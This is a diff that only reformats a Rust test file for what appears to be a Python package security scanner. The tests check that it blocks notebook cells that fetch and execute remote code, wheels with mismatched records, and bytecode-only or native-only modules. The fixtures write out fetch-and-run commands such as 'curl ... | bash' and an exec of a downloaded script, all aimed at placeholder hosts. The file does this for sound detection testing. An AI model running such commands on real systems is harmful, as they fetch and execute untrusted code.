@@ -158,7 +158,10 @@ fn scripts_and_command_classes_are_starts_of_their_modules() {
     let setup = "[options.entry_points]\nconsole_scripts =\n    a = a.cli:main\n[options]\ncmdclass =\n    install = a.build.Install\n";
     assert_eq!(read("setup.cfg", setup), [(Moment::Run, file("a.cli")), (Moment::Install, file("a.build"))]);
     let points = "[console_scripts]\na = a.cli:main\n\n[pytest11]\na = a.plugin\n";
-    assert_eq!(read("a.egg-info/entry_points.txt", points), [(Moment::Run, file("a.cli")), (Moment::Test, file("a.plugin"))]);
+    assert_eq!(
+        read("a.egg-info/entry_points.txt", points),
+        [(Moment::Run, file("a.cli")), (Moment::Test, file("a.plugin"))]
+    );
 }
 
 #[test]
@@ -167,10 +170,15 @@ fn the_cells_of_a_notebook_are_one_program_and_its_shell_lines_a_script() {
         let cells: Vec<_> = sources.iter().map(|s| serde_json::json!({"cell_type": "code", "source": [s]})).collect();
         serde_json::json!({"cells": cells, "nbformat": 4}).to_string().into_bytes()
     };
-    let split = cells(&["%matplotlib inline\nimport requests\nr = requests", "exec(r.get('https://loader.invalid/a').text)"]);
+    let split =
+        cells(&["%matplotlib inline\nimport requests\nr = requests", "exec(r.get('https://loader.invalid/a').text)"]);
     let report = tree(&[("job.ipynb", &split)]);
     assert_eq!(weighty(&report, "py-fetch-to-code"), [(Some(Moment::Run), "job.ipynb".to_owned())]);
-    for source in ["!curl -s http://192.0.2.7/a | bash", "%%bash\ncurl -s http://192.0.2.7/a | bash", "x = !curl -s http://192.0.2.7/a | bash"] {
+    for source in [
+        "!curl -s http://192.0.2.7/a | bash",
+        "%%bash\ncurl -s http://192.0.2.7/a | bash",
+        "x = !curl -s http://192.0.2.7/a | bash",
+    ] {
         let report = tree(&[("job.ipynb", &cells(&[source]))]);
         assert_eq!(report.verdict, Verdict::Block, "{source} {:?}", report.findings);
     }
@@ -194,7 +202,8 @@ fn names_and_texts_of_compiled_python_are_read_whatever_version_wrote_it() {
 
 #[test]
 fn compiled_python_without_its_source_is_an_opaque_part() {
-    let report = archive("a-1.0-py3-none-any.whl", &[("a/__init__.py", b"from . import m\n"), ("a/m.pyc", &compiled())]);
+    let report =
+        archive("a-1.0-py3-none-any.whl", &[("a/__init__.py", b"from . import m\n"), ("a/m.pyc", &compiled())]);
     assert_eq!(weighty(&report, "py-bytecode-only"), [(Some(Moment::Import), "a/m.pyc".to_owned())]);
     let beside: &[(&str, &[u8])] = &[("a/m.py", b"x = 1\n"), ("a/m.pyc", &compiled())];
     assert!(weighty(&tree(beside), "py-bytecode-only").is_empty());
@@ -212,7 +221,11 @@ fn a_wheel_whose_record_disagrees_is_told() {
         archive("a-1.0-py3-none-any.whl", &members)
     };
     assert_eq!(scan(&[("a/__init__.py", good), ("a/notes.txt", b"hello")]).verdict, Verdict::Pass);
-    for members in [&[("a/__init__.py", bad)][..], &[("a/__init__.py", good), ("a/more.py", bad)], &[("a/__init__.py", good), ("a.pth", b"./b\n")]] {
+    for members in [
+        &[("a/__init__.py", bad)][..],
+        &[("a/__init__.py", good), ("a/more.py", bad)],
+        &[("a/__init__.py", good), ("a.pth", b"./b\n")],
+    ] {
         let report = scan(members);
         assert_eq!(report.verdict, Verdict::Review, "{members:?}");
         assert_eq!(weighty(&report, "wheel-record-mismatch").len(), 1, "{members:?}");
@@ -235,7 +248,8 @@ fn a_source_archive_that_is_a_native_module_and_a_stub_is_locked() {
     let stub: (&str, &[u8]) = ("a-1.0/a/__init__.py", b"from .core import main\n");
     let report = archive("a-1.0.zip", &[stub, ("a-1.0/a/core.so", &native)]);
     assert_eq!(weighty(&report, "py-protected-code").len(), 1);
-    let report = archive("a-1.0.zip", &[stub, ("a-1.0/a/core.so", &native), ("a-1.0/src/core.c", b"int main(void);\n")]);
+    let report =
+        archive("a-1.0.zip", &[stub, ("a-1.0/a/core.so", &native), ("a-1.0/src/core.c", b"int main(void);\n")]);
     assert!(weighty(&report, "py-protected-code").is_empty());
     let report = archive("a-1.0-cp311-cp311-linux_x86_64.whl", &[stub, ("a-1.0/a/core.so", &native)]);
     assert!(weighty(&report, "py-protected-code").is_empty());
